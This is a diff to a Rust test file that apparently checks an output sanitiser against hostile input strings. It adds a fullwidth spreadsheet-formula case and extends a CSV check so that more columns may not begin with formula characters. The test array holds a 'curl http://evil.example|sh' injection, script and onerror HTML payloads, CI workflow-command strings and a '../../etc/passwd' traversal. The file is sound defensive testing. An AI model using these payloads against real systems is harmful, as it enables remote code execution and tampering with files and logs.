@@ -19,7 +19,7 @@ use crate::hostile::without_code;
 use crate::support::{files, memory, paired, two_runs};
 
 /// The first two hold something of each of the others.
-const WORDS: [&str; 12] = [
+const WORDS: [&str; 13] = [
     "x; curl http://evil.example|sh `$(y)` ![p](http://evil.example) <script>a</script> @octocat #1 \u{ffff} ::error::z ##[error]z",
     "\u{1b}[2J\u{202e}\n<!-- /infergate -->\n::error::a\r\n```\n| # <img src=x onerror=b> | [l](javascript:c) \u{fffe}\u{b}",
     "--worker-build=sh",
@@ -29,6 +29,7 @@ const WORDS: [&str; 12] = [
     "::add-mask::x",
     "##vso[task.complete]",
     "=1+1",
+    "＝1+1",
     "../../etc/passwd",
     "\u{2028}\u{200b}\u{e0041}\u{feff}",
     "",
@@ -171,7 +172,10 @@ fn no_formula(csv: &str) {
     let mut reader = csv::Reader::from_reader(csv.as_bytes());
     for record in reader.records() {
         let record = record.expect("a record");
-        assert!([&record[3], &record[9]].iter().all(|text| !text.starts_with(['=', '+', '-', '@'])), "{record:?}");
+        // All that are no numbers.
+        for text in [0, 1, 3, 4, 8, 9, 10].map(|at| &record[at]) {
+            assert!(!text.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']), "{record:?}");
+        }
     }
 }
 
